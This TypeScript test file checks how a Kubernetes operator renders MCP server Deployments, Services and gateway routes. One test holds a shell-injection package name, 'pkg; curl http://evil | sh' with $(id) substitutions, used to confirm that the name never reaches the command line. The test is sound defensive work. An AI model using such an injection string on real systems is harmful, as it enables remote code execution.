import t from 'tap';
import type { MCPServerInput } from '../../../src/render/inputs.ts';
import {
  NODE_PACKAGE_SCRIPT,
  PYTHON_PACKAGE_SCRIPT,
  pythonDistributionName,
  pythonModuleName,
  renderMCPServer,
} from '../../../src/render/mcpserver.ts';
import { childrenOf } from '../../../src/render/rendered.ts';
import { configHash } from '../../../src/render/hash.ts';
import { config, gatewayConfig, mainContainer, sampleMCPServer } from './helpers.ts';

const meta = { name: 'tools', namespace: 'ns', uid: 'uid-tools' };
const labels = { app: 'mcpserver', mcpserver: 'tools' };
const owner = { apiVersion: 'kaos.tools/v1alpha1', kind: 'MCPServer', name: 'tools', uid: 'uid-tools', controller: true, blockOwnerDeletion: true };
const logEnv = [{ name: 'LOG_LEVEL', value: 'INFO' }];

function mcp(type: MCPServerInput['spec']['type'], tools: NonNullable<NonNullable<MCPServerInput['spec']['config']>['tools']>, extra: Partial<MCPServerInput['spec']> = {}): MCPServerInput {
  return { metadata: meta, spec: { type, config: { tools, env: logEnv }, ...extra } };
}

t.test('common shape: names, labels, owner, port, tcp probes, Service, endpoint', async (t) => {
  const r = renderMCPServer(mcp('python-runtime', { fromString: 'def echo(x): return x' }), config);
  const d = r.deployment;
  t.strictSame(d.metadata, {
    name: 'mcpserver-tools',
    namespace: 'ns',
    labels: { ...labels, 'app.kubernetes.io/managed-by': 'kaos-operator' },
    ownerReferences: [owner],
  });
  t.strictSame(d.spec.selector.matchLabels, labels);
  t.strictSame(d.spec.template.metadata.labels, labels);
  t.equal(d.spec.replicas, 1);
  const c = mainContainer(d);
  t.equal(c.name, 'mcp-server');
  t.equal(c.imagePullPolicy, 'IfNotPresent');
  t.strictSame(c.ports, [{ name: 'http', containerPort: 8000, protocol: 'TCP' }]);
  t.strictSame(c.livenessProbe, { tcpSocket: { port: 8000 }, initialDelaySeconds: 20, periodSeconds: 10, timeoutSeconds: 3, failureThreshold: 3 });
  t.strictSame(c.readinessProbe, { tcpSocket: { port: 8000 }, initialDelaySeconds: 15, periodSeconds: 5, timeoutSeconds: 3, failureThreshold: 2 });
  t.strictSame(r.service?.metadata.name, 'mcpserver-tools');
  t.strictSame(r.service?.spec, { type: 'ClusterIP', selector: labels, ports: [{ name: 'http', port: 8000, targetPort: 8000, protocol: 'TCP' }] });
  t.equal(r.endpoint, 'http://mcpserver-tools.ns.svc.cluster.local:8000');
  t.same(childrenOf(r).map((x) => x.kind), ['Deployment', 'Service']);
});

t.test('fromString: kaos image, mcptools command, MCP_TOOLS_STRING after config.env', async (t) => {
  const source = 'def echo(text: str) -> str:\n    return text\n';
  const c = mainContainer(renderMCPServer(mcp('python-runtime', { fromString: source }), config).deployment);
  t.equal(c.image, 'axsauze/kaos-agent:0.1.3');
  t.strictSame(c.command, ['python', '-m', 'mcptools.server']);
  t.notOk('args' in c);
  t.strictSame(c.env, [...logEnv, { name: 'MCP_TOOLS_STRING', value: source }]);
});

t.test('fromSecretKeyRef: MCP_TOOLS_STRING from the Secret; config hash only when the Secret\'s version is known', async (t) => {
  const m = mcp('python-runtime', { fromSecretKeyRef: { name: 'tools-secret', key: 'tools.py' } });
  const r = renderMCPServer(m, config);
  const c = mainContainer(r.deployment);
  t.equal(c.image, 'axsauze/kaos-agent:0.1.3');
  t.strictSame(c.command, ['python', '-m', 'mcptools.server']);
  t.strictSame(c.env, [...logEnv, { name: 'MCP_TOOLS_STRING', valueFrom: { secretKeyRef: { name: 'tools-secret', key: 'tools.py' } } }]);
  t.strictSame(Object.keys(r.deployment.spec.template.metadata.annotations), ['kubectl.kubernetes.io/default-container', 'kaos.tools/pod-spec-hash']);
  const known = renderMCPServer(m, config, { secretResourceVersion: '41' }).deployment.spec.template.metadata.annotations;
  t.equal(known['kaos.tools/config-hash'], configHash('secret/tools-secret@41/tools.py'));
  const next = renderMCPServer(m, config, { secretResourceVersion: '42' }).deployment.spec.template.metadata;
  t.not(next.annotations['kaos.tools/config-hash'], known['kaos.tools/config-hash'], 'a new Secret version rolls the pods');
  t.equal(next.annotations['kaos.tools/pod-spec-hash'], known['kaos.tools/pod-spec-hash'], 'the pod spec itself does not change');
  const fromString = renderMCPServer(mcp('python-runtime', { fromString: 'x' }), config, { secretResourceVersion: '41' });
  t.notOk('kaos.tools/config-hash' in fromString.deployment.spec.template.metadata.annotations, 'only for a Secret source');
});

t.test('fromPackage python (sample 1): python image, pip script, names via env', async (t) => {
  const r = renderMCPServer(sampleMCPServer('1-simple-echo-agent.yaml', 'simple-echo-mcp'), config);
  const c = mainContainer(r.deployment);
  t.equal(c.image, 'python:3.12-slim');
  t.strictSame(c.command, ['/bin/sh', '-c', PYTHON_PACKAGE_SCRIPT, 'mcp-server']);
  t.equal(
    PYTHON_PACKAGE_SCRIPT,
    'pip install --no-cache-dir "$MCP_PACKAGE" && if command -v "$MCP_ENTRYPOINT" >/dev/null 2>&1; ' +
      'then exec "$MCP_ENTRYPOINT" "$@"; else exec python -m "$MCP_MODULE" "$@"; fi',
  );
  t.strictSame(c.env, [
    { name: 'LOG_LEVEL', value: 'INFO' },
    { name: 'MCP_PACKAGE', value: 'test-mcp-echo-server' },
    { name: 'MCP_ENTRYPOINT', value: 'test-mcp-echo-server' },
    { name: 'MCP_MODULE', value: 'test_mcp_echo_server' },
  ]);
  t.equal(r.endpoint, 'http://mcpserver-simple-echo-mcp.kaos-simple.svc.cluster.local:8000');
});

t.test('python package names: version pins and extras stripped for the script and module', async (t) => {
  t.equal(pythonDistributionName('test-mcp-echo-server==0.1.0'), 'test-mcp-echo-server');
  t.equal(pythonDistributionName('mcp-server-fetch[extra]>=1.0'), 'mcp-server-fetch');
  t.equal(pythonDistributionName('awslabs.cdk-mcp-server'), 'awslabs.cdk-mcp-server');
  t.equal(pythonModuleName('awslabs.cdk-mcp-server~=1.2'), 'awslabs.cdk_mcp_server');
  t.equal(pythonModuleName('mcp_simple'), 'mcp_simple');
});

t.test('fromPackage node: node image, npx through an env var', async (t) => {
  const c = mainContainer(renderMCPServer(mcp('node-runtime', { fromPackage: '@modelcontextprotocol/server-everything@1.0.0' }), config).deployment);
  t.equal(c.image, 'node:22-slim');
  t.strictSame(c.command, ['/bin/sh', '-c', NODE_PACKAGE_SCRIPT, 'mcp-server']);
  t.equal(NODE_PACKAGE_SCRIPT, 'exec npx -y "$MCP_PACKAGE" "$@"');
  t.strictSame(c.env, [...logEnv, { name: 'MCP_PACKAGE', value: '@modelcontextprotocol/server-everything@1.0.0' }]);
});

t.test('a package name with shell characters never appears in a command string', async (t) => {
  const evil = 'pkg; curl http://evil | sh #$(id)`id`"\'';
  for (const type of ['python-runtime', 'node-runtime'] as const) {
    const c = mainContainer(renderMCPServer(mcp(type, { fromPackage: evil }), config).deployment);
    const commandText = JSON.stringify([c.command, c.args]);
    t.notOk(commandText.includes('curl'), `${type}: not in command/args`);
    t.notOk(commandText.includes('pkg'), `${type}: not even the harmless part`);
    t.equal(c.env?.find((e) => e.name === 'MCP_PACKAGE')?.value, evil, `${type}: only in the env var`);
  }
});

t.test('images: DEFAULT_MCP_* config and spec.container.image', async (t) => {
  const custom = { ...config, images: { ...config.images, mcpServer: 'reg/mcp:1', mcpPython: 'reg/py:3.13', mcpNode: 'reg/node:24' } };
  t.equal(mainContainer(renderMCPServer(mcp('python-runtime', { fromString: 'x' }), custom).deployment).image, 'reg/mcp:1');
  t.equal(mainContainer(renderMCPServer(mcp('python-runtime', { fromPackage: 'p' }), custom).deployment).image, 'reg/py:3.13');
  t.equal(mainContainer(renderMCPServer(mcp('node-runtime', { fromPackage: 'p' }), custom).deployment).image, 'reg/node:24');
  const overridden = mcp('python-runtime', { fromPackage: 'p' }, { container: { image: 'mine:1' } });
  t.equal(mainContainer(renderMCPServer(overridden, custom).deployment).image, 'mine:1');
});

t.test('ContainerOverride: args reach the server through "$@"; env wins; command replaces', async (t) => {
  const m = mcp('python-runtime', { fromPackage: 'p' }, {
    container: { args: ['--port', '8000'], env: [{ name: 'MCP_MODULE', value: 'p.server' }], resources: { requests: { cpu: '100m' } } },
  });
  const c = mainContainer(renderMCPServer(m, config).deployment);
  t.strictSame(c.args, ['--port', '8000']);
  t.strictSame(c.command, ['/bin/sh', '-c', PYTHON_PACKAGE_SCRIPT, 'mcp-server']);
  t.strictSame(c.env?.at(-1), { name: 'MCP_MODULE', value: 'p.server' });
  t.equal(c.env?.filter((e) => e.name === 'MCP_MODULE').length, 1);
  t.strictSame(c.resources, { requests: { cpu: '100m' } });
  const replaced = mainContainer(renderMCPServer(mcp('python-runtime', { fromPackage: 'p' }, { container: { command: ['my-server'] } }), config).deployment);
  t.strictSame(replaced.command, ['my-server']);
  const cleared = mainContainer(renderMCPServer(mcp('python-runtime', { fromString: 'x' }, { container: { command: [] } }), config).deployment);
  t.notOk('command' in cleared, 'an empty command runs the image entrypoint');
});

t.test('config.env cannot replace the generated tools entry', async (t) => {
  const m: MCPServerInput = {
    metadata: meta,
    spec: { type: 'python-runtime', config: { tools: { fromString: 'real' }, env: [{ name: 'MCP_TOOLS_STRING', value: 'user' }] } },
  };
  t.strictSame(mainContainer(renderMCPServer(m, config).deployment).env, [{ name: 'MCP_TOOLS_STRING', value: 'real' }]);
});

t.test('gateway: HTTPRoute mcp-<name>, default 30s, custom and 0s', async (t) => {
  const r = renderMCPServer(mcp('python-runtime', { fromString: 'x' }), gatewayConfig);
  t.equal(r.httpRoute?.metadata.name, 'mcp-tools');
  t.equal(r.httpRoute?.spec.rules[0]?.matches[0]?.path.value, '/ns/mcp/tools');
  t.strictSame(r.httpRoute?.spec.rules[0]?.timeouts, { request: '30s' });
  const custom = renderMCPServer(mcp('python-runtime', { fromString: 'x' }, { gatewayRoute: { timeout: '5m' } }), gatewayConfig);
  t.strictSame(custom.httpRoute?.spec.rules[0]?.timeouts, { request: '5m' });
  const none = renderMCPServer(mcp('python-runtime', { fromString: 'x' }, { gatewayRoute: { timeout: '0s' } }), gatewayConfig);
  t.notOk('timeouts' in (none.httpRoute?.spec.rules[0] ?? {}));
  t.same(childrenOf(r).map((x) => x.kind), ['Deployment', 'Service', 'HTTPRoute']);
});

t.test('pod-spec-hash: stable and sensitive', async (t) => {
  const hash = (m: MCPServerInput) => renderMCPServer(m, config).deployment.spec.template.metadata.annotations['kaos.tools/pod-spec-hash'];
  const a = mcp('python-runtime', { fromPackage: 'p' });
  t.equal(hash(a), hash(structuredClone(a)));
  t.not(hash(a), hash(mcp('python-runtime', { fromPackage: 'p==2' })));
  t.not(hash(a), hash(mcp('node-runtime', { fromPackage: 'p' })));
});
